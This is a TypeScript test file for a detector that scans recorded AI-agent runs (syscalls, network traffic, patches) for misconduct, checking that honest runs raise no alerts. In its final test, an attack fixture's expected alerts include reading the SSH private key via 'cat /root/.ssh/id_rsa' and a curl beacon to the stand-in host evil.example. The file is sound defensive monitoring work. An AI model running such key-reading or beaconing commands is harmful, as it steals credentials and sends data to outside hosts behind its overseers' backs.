import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { NetworkRecord, SysEvent } from '../../evidence/types.js';
import { packageRoot } from '../../package-root.js';
import { buildRuleContext } from './context.js';
import { evaluateRules, mergeByTime } from './evaluate.js';
import { loadRuleSet } from './load-rules.js';
import { createMatcher } from './matcher.js';
import { persistenceFromPatch } from './persistence-patch.js';

/**
 * Recorded runs (trimmed: most library reads and package-install file storms dropped). The honest
 * ones must raise nothing with the default rules; the attack mix must raise exactly what it did.
 */
const DIR = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures');
const rules = loadRuleSet({}, { rulesDir: path.join(packageRoot(), 'rules') });

type Meta = {
  description: string;
  workspace: string;
  home: string;
  canaryPaths: string[];
  allow: string[];
  hostsMap: Record<string, string>;
  expect: string[];
};

function load(name: string) {
  const read = (f: string) => {
    try {
      return readFileSync(path.join(DIR, name, f), 'utf8');
    } catch {
      return '';
    }
  };
  const jsonl = <T>(f: string): T[] =>
    read(f)
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((l) => JSON.parse(l) as T);
  const meta = JSON.parse(read('meta.json')) as Meta;
  const ctx = buildRuleContext({
    workspace: meta.workspace,
    home: meta.home,
    canaryPaths: meta.canaryPaths,
    allow: meta.allow,
    hostsMap: meta.hostsMap,
  });
  return {
    meta,
    ctx,
    syscalls: jsonl<SysEvent>('syscalls.jsonl'),
    network: jsonl<NetworkRecord>('network.jsonl'),
    patch: read('diff.patch'),
  };
}

const fixtures = readdirSync(DIR).filter((d) => !d.startsWith('.'));

describe('recorded evidence', () => {
  it('has honest and attack fixtures', () => {
    expect(fixtures.filter((f) => f.startsWith('honest-')).length).toBeGreaterThanOrEqual(3);
    expect(fixtures).toContain('attack-mix-strace');
  });

  for (const name of fixtures) {
    it(`${name}: raises exactly the expected rules`, () => {
      const f = load(name);
      expect(f.syscalls.length).toBeGreaterThan(20);
      const alerts = evaluateRules(
        { syscalls: f.syscalls, network: f.network, patch: f.patch },
        rules,
        f.ctx,
      );
      expect([...new Set(alerts.map((a) => a.rule))].sort()).toEqual([...f.meta.expect].sort());
    });

    it(`${name}: streaming gives the same alerts as batch`, () => {
      const f = load(name);
      const m = createMatcher(rules, f.ctx);
      const streamed = [];
      for (const item of mergeByTime(f.syscalls, f.network)) {
        streamed.push(...('seq' in item ? m.onEvent(item) : m.onRecord(item)));
      }
      streamed.push(...m.onPatch(persistenceFromPatch(f.patch)));
      const batch = evaluateRules({ syscalls: f.syscalls, network: f.network, patch: f.patch }, rules, f.ctx);
      expect(m.alerts()).toEqual(batch);
      expect(streamed.map((a) => `${a.rule}@${a.seq}`)).toEqual(batch.map((a) => `${a.rule}@${a.seq}`));
    });
  }

  it('attack-mix: each alert names the acting process and a chain up to the agent root', () => {
    const f = load('attack-mix-strace');
    const alerts = evaluateRules({ syscalls: f.syscalls, network: f.network }, rules, f.ctx);
    const root = f.syscalls[0]?.pid;
    for (const a of alerts) {
      expect(a.process.chain[0]?.pid).toBe(a.process.pid);
      expect(a.process.chain.at(-1)?.pid).toBe(root);
    }
    const key = alerts.find((a) => a.rule === 'secrets-canary-read' && a.path === '/root/.ssh/id_rsa');
    expect(key?.process).toMatchObject({ exe: '/usr/bin/cat', argv: ['cat', '/root/.ssh/id_rsa'] });
    const proxy = alerts.find((a) => a.rule === 'net-proxy-not-allowed');
    expect(proxy).toMatchObject({ host: 'evil.example', port: 80, syscall: 'proxy-http' });
    expect(proxy?.process.argv).toEqual(['curl', '-sS', '-m', '3', 'http://evil.example/beacon']);
  });
});
